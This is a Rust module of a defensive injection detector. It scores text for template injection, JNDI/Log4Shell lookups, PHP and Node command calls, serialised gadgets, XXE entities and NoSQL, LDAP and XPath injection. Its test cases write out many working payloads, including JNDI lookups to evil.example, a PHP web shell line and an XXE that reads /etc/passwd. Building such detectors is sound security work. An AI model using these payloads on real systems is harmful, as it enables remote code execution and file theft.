//! Whether a text is an expression that a template engine, a language or a reader of objects would run.

use std::sync::LazyLock;

use super::phrases::{Phrases, phrases};
use super::{Finding, Weight};

/// The gravest reading of a text in small letters; `raw` is the same with its letters as they came.
pub(super) fn assess(text: &str, raw: &str) -> Option<Finding> {
    let readings = [
        (
            "template",
            "an expression that a template engine would run",
            template(text),
        ),
        (
            "injection-java",
            "an expression that a Java program would run",
            java(text),
        ),
        ("injection-php", "PHP that a server would run", php(text)),
        (
            "injection-generic",
            "code that a server would run",
            script(text),
        ),
        (
            "deserialisation",
            "an object that would run code when it is read",
            serialised(text, raw),
        ),
        ("lfi", "an XML entity that reads elsewhere", entity(text)),
        (
            "injection-generic",
            "a piece of a directory query",
            directory(text),
        ),
    ];
    readings
        .into_iter()
        .filter_map(|(class, what, weight)| {
            weight.map(|weight| Finding {
                class,
                weight,
                what,
            })
        })
        .max_by_key(|found| found.weight)
}

/// What the head and the tags of an XML document would make its reader do.
pub(super) fn in_document(text: &str) -> Option<Finding> {
    let runs = phrases![
        "xml.apache.org/xalan/java",
        "msxsl:script",
        "php:function",
        "java.beans.xmldecoder",
        "java.beans.eventhandler",
        "java.lang.processbuilder",
        "java.lang.runtime\"",
        "jdk.nashorn.internal",
        "com.sun.xml.internal",
        "com.sun.jndi",
        "com.sun.org.apache",
        "sun.rmi.registry",
        "javax.naming.ldap",
        "org.apache.commons.collections",
        "javax.imageio.imageio$containsfilter",
        "system.windows.data.objectdataprovider",
    ]
    .stand_in(text);
    let finding = |class, what| {
        Some(Finding {
            class,
            weight: Weight::Strong,
            what,
        })
    };
    if runs {
        return finding(
            "deserialisation",
            "an object that would run code when it is read",
        );
    }
    if text.contains("<?xml-stylesheet")
        && between(text, "<?xml-stylesheet", "?>")
            .iter()
            .any(|inner| inner.contains("data:") || inner.contains("://"))
    {
        return finding("xss", "a style sheet from elsewhere that a page would run");
    }
    if entity(text) == Some(Weight::Strong) {
        return finding("lfi", "an XML entity that reads elsewhere");
    }
    None
}

/// What stands between two marks, each time.
fn between<'t>(text: &'t str, open: &str, close: &str) -> Vec<&'t str> {
    text.match_indices(open)
        .take(40)
        .map(|(at, _)| {
            let inner = &text[at + open.len()..];
            let end = inner.find(close).unwrap_or_else(|| inner.len().min(400));
            inner.get(..end).unwrap_or(inner)
        })
        .collect()
}

/// `7*7` and the like: arithmetic that asks whether it is done.
fn arithmetic(inner: &str) -> bool {
    let plain = inner.trim().trim_matches(|c| matches!(c, '=' | '-' | ' '));
    let mut parts = plain.split(['*', '+', '-', '/']);
    let number = |part: &str| {
        let part = part.trim().trim_matches(['\'', '"', '(', ')']);
        !part.is_empty() && part.len() < 12 && part.bytes().all(|b| b.is_ascii_digit())
    };
    let (Some(a), Some(b)) = (parts.next(), parts.next()) else {
        return false;
    };
    plain.contains(['*', '+']) && number(a) && number(b)
}

static REACHES: LazyLock<Phrases> = LazyLock::new(|| Phrases::of(&REACHING));

/// Names that no template of a mail uses.
const REACHING: [&str; 42] = [
    "file_excerpt",
    "app.request",
    "pagecontext",
    "applicationscope",
    "facescontext",
    "getsession(",
    "filter('",
    "map('",
    "sort('",
    "__class__",
    "__globals__",
    "__init__",
    "__mro__",
    "__subclasses__",
    "__builtins__",
    "__import__",
    "constructor",
    "prototype",
    "lipsum",
    "cycler",
    "joiner",
    "self.",
    "config.",
    "config[",
    "config|",
    "request.application",
    "request|attr",
    "popen",
    "getruntime",
    "runtime",
    "processbuilder",
    "classloader",
    "execute(",
    "exec(",
    "system(",
    "eval(",
    "require(",
    "process.",
    "file.open",
    "passthru",
    "getclass",
    "_self.env",
];

fn template(text: &str) -> Option<Weight> {
    let reaching = |inner: &str| REACHES.stand_in(inner);
    let mut best = None;
    for (open, close) in [
        ("{{", "}}"),
        ("{%", "%}"),
        ("<%", "%>"),
        ("#{", "}"),
        ("${", "}"),
        ("@{", "}"),
        ("*{", "}"),
        ("[[", "]]"),
        ("{php}", "{/php}"),
    ] {
        for inner in between(text, open, close) {
            if inner.trim().is_empty() {
                continue;
            }
            let front = text.split(open).next().unwrap_or_default();
            // A letter that shows what is not done: `{{7*7}}` behind a sentence.
            if open != "<%" && arithmetic(inner) && super::words(front) >= 8 {
                best = best.max(Some(Weight::Weak));
                continue;
            }
            // Ruby runs what stands in backticks.
            if open == "<%" && inner.trim_start_matches(['=', '-', ' ']).starts_with('`') {
                best = Some(Weight::Strong);
            }
            if reaching(inner) && inner.contains(['(', '[', '.', '|'])
                || open != "[[" && arithmetic(inner)
                || open == "{php}"
            {
                best = best.max(Some(Weight::Strong));
            }
        }
    }
    if text.contains("<#assign") && text.contains("?new")
        || text.contains("#set($")
        || text.contains("#set ($")
        || text.contains("freemarker.template")
    {
        best = Some(Weight::Strong);
    }
    // Smarty and Blade.
    if phrases![
        "{math equation",
        "{include file=",
        "{system(",
        "{if system(",
        "{if phpinfo",
        "{$smarty.",
        "{fetch file=",
    ]
    .stand_in(text)
        || (text.contains("{!!") || text.contains("@php"))
            && phrases!["system(", "exec(", "phpinfo(", "eval("].stand_in(text)
    {
        best = Some(Weight::Strong);
    }
    if phrases![
        "<esi:",
        "system.diagnostics.process",
        "\\write18",
        "\\input{/",
    ]
    .stand_in(text)
    {
        best = Some(Weight::Strong);
    }
    if phrases!["{% debug %}", "get_admin_log", "<%=system", "<%= system"].stand_in(text)
        || text.contains("<%") && text.contains("out.print")
    {
        best = Some(Weight::Strong);
    }
    if text.contains("<!--#")
        && [
            "exec", "include", "echo", "config", "printenv", "fsize", "set",
        ]
        .iter()
        .any(|order| text.contains(&format!("<!--#{order}")))
    {
        best = Some(Weight::Strong);
    }
    // `'+{233*233}+'`: an expression that steps out of its string.
    if (text.contains("+{") || text.contains("+ {"))
        && between(text, "{", "}")
            .iter()
            .any(|inner| arithmetic(inner))
        && text.contains(['\'', '"'])
    {
        best = Some(Weight::Strong);
    }
    if text.contains("@(")
        && between(text, "@(", ")")
            .iter()
            .any(|inner| arithmetic(inner))
    {
        best = best.max(Some(Weight::Weak));
    }
    best
}

fn java(text: &str) -> Option<Weight> {
    if text.contains("${") {
        // `${${lower:j}ndi:…}` says jndi in the end; so does `${upper:ı}`, an i without its dot.
        let mut plain = text.replace('ı', "i");
        for _ in 0..40 {
            let Some(end) = plain.find('}') else { break };
            let Some(begin) = plain[..end].rfind("${") else {
                break;
            };
            let inner = plain[begin + 2..end].to_owned();
            if inner.starts_with("jndi:") {
                return Some(Weight::Strong);
            }
            let value = match inner.split_once(":-") {
                Some((_, value)) => value.to_owned(),
                None => match inner.split_once(':') {
                    Some(("lower" | "upper", value)) => value.to_owned(),
                    _ => String::from("?"),
                },
            };
            plain.replace_range(begin..=end, &value);
            if plain.contains("${jndi:") {
                return Some(Weight::Strong);
            }
        }
        if plain.contains("jndi:ldap") || plain.contains("jndi:rmi") || plain.contains("jndi:dns") {
            return Some(Weight::Strong);
        }
        let looks = [
            "env:", "sys:", "java:", "ctx:", "script:", "url:", "dns:", "base64:",
        ];
        if between(text, "${", "}")
            .iter()
            .any(|inner| looks.iter().any(|look| inner.starts_with(look)))
        {
            return Some(Weight::Strong);
        }
    }
    let names = phrases![
        "java.lang.runtime",
        "java.lang.processbuilder",
        "java.lang.processimpl",
        "java.net.urlclassloader",
        "javax.script.scriptengine",
        "java.lang.system",
        "ognl.ognlcontext",
        "#_memberaccess",
        "#context[",
        "xwork.methodaccessor",
        "@java.lang",
        "org.apache.commons.collections.functors",
        "com.sun.org.apache.xalan",
        "com.sun.rowset.jdbcrowsetimpl",
        "org.springframework.context.support.classpathxml",
        "java.beans.eventhandler",
        "javax.naming.initialcontext",
        "org.mvel2",
        "t(java.lang",
        "t (java.lang",
        "t(java.io",
        "t(java.nio",
        "t(javax.",
        "com.sun.security.auth.module.jndiloginmodule",
        "bsh.interpreter",
        "groovy.lang",
        "org.codehaus.groovy",
        "class.module.classloader",
        "class.classloader.",
        "class['classloader']",
    ];
    if phrases![
        "class.module.classloader",
        "$$bcel$$",
        "\".execute()",
        "'.execute()",
        "runtime.getruntime()",
        "runscript from",
        "init=create alias",
    ]
    .stand_in(text)
        && !text.contains("\tat ")
    {
        return Some(Weight::Strong);
    }
    // `java.lang.RuntimeException` is another class.
    let named = names.places(text).any(|(begin, end)| {
        let after = text[end..].chars().next();
        !text[begin..end].ends_with(|c: char| c.is_ascii_alphanumeric())
            || !after.is_some_and(|c| c.is_ascii_alphabetic())
    });
    let runs = phrases![
        "getruntime",
        ".exec(",
        "exec(",
        "newinstance",
        "forname",
        "start()",
        "#{",
        "${",
        "%{",
        "=",
        "@type",
        "<java",
        "new ",
        "t(",
        "!!",
        "\"class\"",
        "<void",
        "<object",
        "eval(",
    ]
    .stand_in(text);
    // The trace of an error names classes, too, with a line number behind.
    let trace = text.contains("\tat ")
        || text.contains(" at java.")
        || text.contains(".java:")
        || text.contains("caused by:");
    if named && runs {
        return Some(if trace && !text.contains("getruntime") {
            Weight::Weak
        } else {
            Weight::Strong
        });
    }
    let ognl = between(text, "%{", "}")
        .iter()
        .any(|inner| inner.contains('(') && inner.contains(['#', '@']) || arithmetic(inner))
        || text.contains("(#") && text.contains("=@");
    if ognl {
        return Some(Weight::Strong);
    }
    named.then_some(Weight::Weak)
}

fn php(text: &str) -> Option<Weight> {
    let calls = [
        "system(",
        "exec(",
        "shell_exec(",
        "passthru(",
        "eval(",
        "assert(",
        "popen(",
        "proc_open(",
        "phpinfo(",
        "base64_decode(",
        "file_put_contents(",
        "file_get_contents(",
        "call_user_func",
        "create_function(",
        "preg_replace(",
        "include(",
        "include ",
        "require(",
        "require ",
        "echo ",
        "print(",
        "die(",
        "md5(",
        "var_dump(",
        "fopen(",
        "fwrite(",
        "unlink(",
        "str_rot13(",
        "gzinflate(",
    ];
    if text.contains("<?php")
        || text.contains("<?=")
        || text.contains("<? ")
        || text.contains("<script language=\"php\"")
        || text.contains("<script language='php'")
    {
        let (front, body) = text.split_once("<?").unwrap_or(("", text));
        // A letter that shows its code does not run it.
        return Some(if super::words(front) >= 5 || super::wide(front) {
            Weight::Weak
        } else if calls.iter().any(|call| body.contains(call))
            || body.contains("$_")
            || body.contains('`')
        {
            Weight::Strong
        } else {
            Weight::Weak
        });
    }
    if text.contains("phpinfo()") && super::words(text) < 5 && !super::wide(text) {
        return Some(Weight::Strong);
    }
    if between(text, "${@", "}")
        .iter()
        .any(|inner| inner.contains('('))
    {
        return Some(Weight::Strong);
    }
    let inputs = phrases![
        "$_get",
        "$_post",
        "$_request",
        "$_cookie",
        "$_server",
        "$_files",
        "$globals",
    ];
    if inputs.stand_in(text) && text.contains('(') {
        return Some(Weight::Strong);
    }
    if [
        "php://input",
        "php://filter",
        "phar://",
        "expect://",
        "zip://",
        "data://text",
    ]
    .iter()
    .any(|scheme| {
        text.find(scheme)
            .is_some_and(|at| at < 12 || text[..at].ends_with('='))
    }) {
        return Some(Weight::Strong);
    }
    if phrases!["shell_exec(", "passthru(", "proc_open("].stand_in(text)
        && text.contains(['\'', '"', '$'])
        && super::words(text) < 8
        && !super::wide(text)
    {
        return Some(Weight::Strong);
    }
    let whole = text.trim().trim_end_matches([';', ')', '}', '/', ' ']);
    let starts = calls[..16].iter().any(|call| {
        whole
            .trim_start_matches(['@', '$', '{', ';', '\'', '"', '.', '&', '|', ' ', ')'])
            .starts_with(call)
    });
    if starts && text.len() < 2_000 && text.contains(['\'', '"', '$', ')']) && !super::wide(text) {
        return Some(Weight::Strong);
    }
    let settings = phrases![
        "auto_prepend_file",
        "allow_url_include",
        "-d+allow_url",
        "think\\app/invokefunction",
        "think\\app\\invokefunction",
        "think\\request/input",
        "invokefunction&function=",
        "_method=__construct",
        "[#post_render]",
        "[#pre_render]",
        "[#lazy_builder]",
        "\\think\\",
    ];
    if text.trim() == "__construct" || settings.stand_in(text) {
        return Some(Weight::Strong);
    }
    None
}

fn script(text: &str) -> Option<Weight> {
    let sure = phrases![
        "require('child_process')",
        "require(\"child_process\")",
        "require(`child_process`)",
        "process.mainmodule",
        "global.process",
        "child_process').exec",
        "constructor.constructor(",
        "['constructor']['constructor']",
        "this.constructor.constructor",
        "__import__('os')",
        "__import__(\"os\")",
        "os.system(",
        "os.popen(",
        "subprocess.popen(",
        "subprocess.check_output(",
        "subprocess.call(",
        "io.popen(",
        "kernel.exec",
        "%x(",
        "process.binding(",
    ];
    if sure.stand_in(text) {
        return Some(Weight::Strong);
    }
    if text.contains("__proto__")
        || text.contains("constructor.prototype")
        || text.contains("constructor[prototype]")
    {
        return Some(Weight::Strong);
    }
    let hidden = ["server.scripttimeout", "on error resume next"]
        .iter()
        .any(|way| text.contains(way))
        && text.contains("cute(");
    if document_query(text) || hidden || waits(text) {
        return Some(Weight::Strong);
    }
    None
}

/// Operators and calls of document databases: `[$ne]`, `$where: …`, `db.users.find(`.
fn document_query(text: &str) -> bool {
    let begin = super::head(text, 30);
    let quoted = text.contains('"');
    let operator = text.match_indices('$').take(40).any(|(at, _)| {
        let rest = &text[at + 1..];
        let name = &rest[..rest
            .find(|c: char| !c.is_ascii_alphabetic())
            .unwrap_or(rest.len())];
        let tail = rest[name.len()..]
            .trim_start_matches(['"', '\''])
            .trim_start();
        let named = |names: &[&str]| names.contains(&name);
        let before = text[..at].trim_end_matches(['"', '\'']).chars().next_back();
        // `$where: MemberFilter` is a variable of GraphQL.
        let code = tail
            .strip_prefix(':')
            .is_some_and(|value| value.trim_start().starts_with(['\'', '"', '`', 'f', '(']))
            && !tail[1..].trim_start().starts_with("float");
        // Lists of conditions are how some shops' own interfaces filter.
        let listing = ["filter", "where", "query", "match", "conditions"]
            .iter()
            .any(|word| begin.contains(word));
        let near = &text[text.floor_char_boundary(at.saturating_sub(24))..at];
        let who = [
            "user", "pass", "pwd", "login", "token", "secret", "otp", "_id",
        ]
        .iter()
        .any(|word| near.contains(word));
        let nothing = tail
            .strip_prefix(':')
            .is_some_and(|value| value.trim_start().starts_with("null"));
        let last = tail.is_empty() && before == Some('.');
        let asks = named(&["ne", "nin", "regex", "exists", "where"]);
        let compares = named(&["gt", "gte", "lt", "lte", "in"]);
        if last || tail.starts_with(']') && before == Some('[') {
            let who = who
                || [
                    "mobile", "phone", "code", "email", "account", "name", "role",
                ]
                .iter()
                .any(|word| near.contains(word));
            return named(&["where"]) || !listing && (asks || compares && who);
        }
        if named(&["function", "accumulator"])
            && (tail.starts_with(':') || tail.starts_with('.') && before == Some('.'))
        {
            return true;
        }
        named(&["where"]) && (code || tail.starts_with('='))
            || named(&["or", "and", "nor"])
                && !text[..at].ends_with('"')
                && tail.starts_with(':')
                && tail[1..].trim_start().starts_with('[')
            || (asks || compares)
                && (who || nothing || !quoted)
                && tail.starts_with(':')
                && before.is_none_or(|c| matches!(c, '{' | ',' | ' '))
    });
    let call = text.strip_prefix("db.").or_else(|| {
        text.find([';', '\'', '"'])
            .and_then(|at| text[at + 1..].trim_start().strip_prefix("db."))
    });
    let call = call.is_some_and(|rest| {
        phrases![
            ".insert(",
            ".insertone(",
            ".find(",
            ".findone(",
            ".remove(",
            ".drop(",
            ".update(",
            ".aggregate(",
            ".mapreduce(",
            ".deletemany(",
            ".dropdatabase(",
            ".getcollectionnames(",
        ]
        .stand_in(rest)
    });
    operator
        || call
        || text.contains("||'1'=='1")
        || text.contains("this.password.match(")
        || text.contains("'||'a'=='a")
        || text.contains("' || 'a'=='a")
}

/// A loop that burns time until a clock says so.
fn waits(text: &str) -> bool {
    text.contains("new date(") && text.contains("while(") && text.contains("do{")
        || text.contains("new date(") && text.contains("while(") && text.contains("do {")
}

fn serialised(text: &str, raw: &str) -> Option<Weight> {
    // Java, in bytes, in base64 and in hex.
    if raw.contains("rO0AB") || text.contains("aced0005") || raw.contains("\u{fffd}\u{fffd}\0\u{5}")
    {
        return Some(Weight::Strong);
    }
    // .NET
    // The same bytes at each of the three places that base64 can have them.
    if phrases!["AAEAAAD/////", "AQAAAP////8B", "ABAAAA/////w"].stand_in(raw) {
        return Some(Weight::Strong);
    }
    // PHP: O:8:"Customer":1:{s:4:…
    for (at, _) in text.match_indices(":\"").take(40) {
        let front = &text[..at];
        let digits = front.len() - front.trim_end_matches(|c: char| c.is_ascii_digit()).len();
        let kind = &front[..front.len() - digits];
        let rest = &text[at + 2..];
        let Some(end) = rest.find("\":") else {
            continue;
        };
        let after = &rest[end + 2..];
        let count = after.bytes().take_while(u8::is_ascii_digit).count();
        if digits > 0
            && (kind.ends_with("o:") || kind.ends_with("c:"))
            && count > 0
            && after[count..].starts_with(":{")
        {
            return Some(Weight::Strong);
        }
    }
    // Node, Python, YAML, fastjson, XStream
    if raw.contains("_$$ND_FUNC$$_")
        || text.contains("cos\nsystem")
        || text.contains("cposix\nsystem")
        || text.contains("c__builtin__\n")
        || text.contains("csubprocess\n")
    {
        return Some(Weight::Strong);
    }
    if phrases![
        "!!javax.",
        "!!java.",
        "!!python/object",
        "!!com.sun",
        "!ruby/object",
        "!ruby/hash",
    ]
    .stand_in(text)
    {
        return Some(Weight::Strong);
    }
    if text.contains("\"@type\"")
        && phrases!["java.", "com.sun", "org.apache", "javax.", "jdbc", "ldap"].stand_in(text)
    {
        return Some(Weight::Strong);
    }
    if raw.starts_with("BAh") && marshalled(raw) {
        return Some(Weight::Strong);
    }
    if raw.starts_with("gAS") && pickled(raw) {
        return Some(Weight::Strong);
    }
    if raw.starts_with("gASV") || raw.starts_with("H4sIAAAAAAAA") && raw.len() > 40 {
        return Some(Weight::Weak);
    }
    None
}

/// Python's own format, with a module that runs commands in it.
fn pickled(raw: &str) -> bool {
    packs(
        raw,
        &[b"posix", b"subprocess", b"builtins", b"commands", b"nt\x94"],
    )
}

/// Ruby's own format, with classes that run code when they are read.
fn marshalled(raw: &str) -> bool {
    packs(
        raw,
        &[b"InstanceVariableProxy", b"ERB", b"Gem::", b"Kernel"],
    )
}

/// Whether one of the names stands in what is in base64.
fn packs(raw: &str, names: &[&[u8]]) -> bool {
    use base64::Engine as _;
    let digits = raw.trim().trim_end_matches('=');
    let Ok(bytes) = base64::engine::general_purpose::STANDARD_NO_PAD.decode(digits) else {
        return false;
    };
    names
        .iter()
        .any(|name| memchr::memmem::find(&bytes, name).is_some())
}

fn entity(text: &str) -> Option<Weight> {
    let declared = text.contains("<!entity")
        && (text.contains("system") || text.contains("public") || text.contains('%'));
    // Entities made of entities: a bomb.
    let nested = text.matches("<!entity").take(3).count() == 3 && text.matches(";&").count() >= 4;
    // A document type from elsewhere; those of pages and drawings are known.
    let outside = text.find("<!doctype").is_some_and(|at| {
        let head = &text[at..at + text[at..].find(['>', '[']).unwrap_or(text.len() - at)];
        let stranger = ["php://", "file://", "expect://"]
            .iter()
            .any(|scheme| head.contains(scheme));
        stranger
            || head.contains(" system ")
                && !["about:", "w3.org", "svg", "<!doctype html"]
                    .iter()
                    .any(|known| head.contains(known))
    });
    let declared = declared || outside || nested;
    let doctype = text.contains("<!doctype") && text.contains("[") && text.contains("<!");
    if declared || text.contains("<xi:include") && text.contains("href") {
        return Some(Weight::Strong);
    }
    (doctype && text.contains("<!element")).then_some(Weight::Weak)
}

/// LDAP and XPath: `*)(uid=*))(|(uid=*`, `' or count(/*)=1 or 'a'='b`.
fn directory(text: &str) -> Option<Weight> {
    if text.ends_with(")(&)") || text.ends_with(")(|)") {
        return Some(Weight::Strong);
    }
    // XPath, which SQL's reader doesn't know.
    let axes = phrases![
        "string-length(",
        "name(parent::",
        "parent::*",
        "child::",
        "doc(concat(",
        "doc(\"http",
        "doc('http",
        "encode-for-uri(",
        "] | //",
        "]|//",
        "node()",
        "text()",
        "count(/",
        "substring(//",
        "position()=",
    ];
    if axes.stand_in(text)
        && phrases![" or ", " and ", "|"].stand_in(text)
        && text.contains(['\'', '"', ']'])
        && text.len() < 400
    {
        return Some(Weight::Strong);
    }
    let ldap = [
        "*)(",
        ")(|(",
        ")(&(",
        ")(uid=",
        ")(cn=",
        ")(!(",
        "*))%00",
        "*)(objectclass",
    ];
    let found = if text.contains(['*', ')']) {
        ldap.iter().filter(|piece| text.contains(**piece)).count()
    } else {
        0
    };
    let (mut opened, mut closed) = (0_usize, 0_usize);
    for byte in text.bytes() {
        opened += usize::from(byte == b'(');
        closed += usize::from(byte == b')');
    }
    let balanced = opened.abs_diff(closed);
    if (found >= 2 || found == 1 && balanced >= 1)
        && text.contains('=')
        && text.len() < 300
        && !text.contains("function")
    {
        return Some(Weight::Strong);
    }
    // A whole filter, and a comparison by the number of its rule (RFC 4515, section 3).
    let filter = ["(&(", "(|(", "(!("]
        .iter()
        .any(|open| text.trim_start_matches('*').starts_with(open))
        && balanced == 0
        && text.ends_with("))")
        && text.contains('=')
        && !text.contains([' ', ';', '{']);
    let ruled = text
        .find(":2.5.13.")
        .or_else(|| text.find(":1.2.840.113556.1.4."))
        .is_some_and(|at| text[at..].contains(":="))
        && super::words(text) < 5;
    (filter || ruled).then_some(Weight::Strong)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strong(text: &str) -> bool {
        assess(&text.to_lowercase(), text).is_some_and(|found| found.weight == Weight::Strong)
    }

    #[test]
    fn expressions_that_would_run_are_found() {
        let mut wrong = Vec::new();
        for text in [
            "{{7*7}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}${::-n}di:ldap://evil.example/a}",
            "${${env:X:-j}ndi:rmi://x/a}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "system('id');",
            "require('child_process').exec('id')",
            "O:8:\"Customer\":1:{s:4:\"name\";s:1:\"x\";}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "*)(uid=*))(|(uid=*",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "user[$ne]",
            "json.password.$regex",
            "{\"login\":{\"$gt\":null}}",
            "db.users.insert({a:1});",
            "<!--#exec cmd=\"ls\" -->",
            "'+{233*233}+'",
            "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
            "admin)(&)",
            "x' or string-length(name(parent::*))>0 or 'x'='",
            "<!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>",
            "${@print(md5(1))}",
            "{{['id']|filter('system')}}",
            "<esi:include src=\"http://evil.example/\"/>",
        ] {
            if !strong(text) {
                wrong.push(text);
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn templates_of_mails_and_prose_are_not() {
        let mut wrong = Vec::new();
        for text in [
            "尊敬的{{name}},您的订单{{order.id}}已发货",
            "Dear ${customer.name}, your balance is ${amount}",
            "#{tag} 50% off",
            "java.lang.NullPointerException\n\tat com.example.A.b(A.java:12)",
            "price = 7*7",
            "<?xml version=\"1.0\"?><a/>",
            "a:1:b",
            "call system (support) for help",
            "filters[price][$gte]",
            "{\"deleted\":{\"$ne\":true},\"tags\":{\"$in\":[1]}}",
            "query M($where: MemberFilter) { members(where: $where) { id } }",
            "java.lang.RuntimeException: x = 1",
            "#{T(java.time.LocalDate).now().dayOfYear}",
            "our code, which you asked about last week, is: <?php echo $_GET['a']; ?>",
        ] {
            if strong(text) {
                wrong.push(text);
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }
}
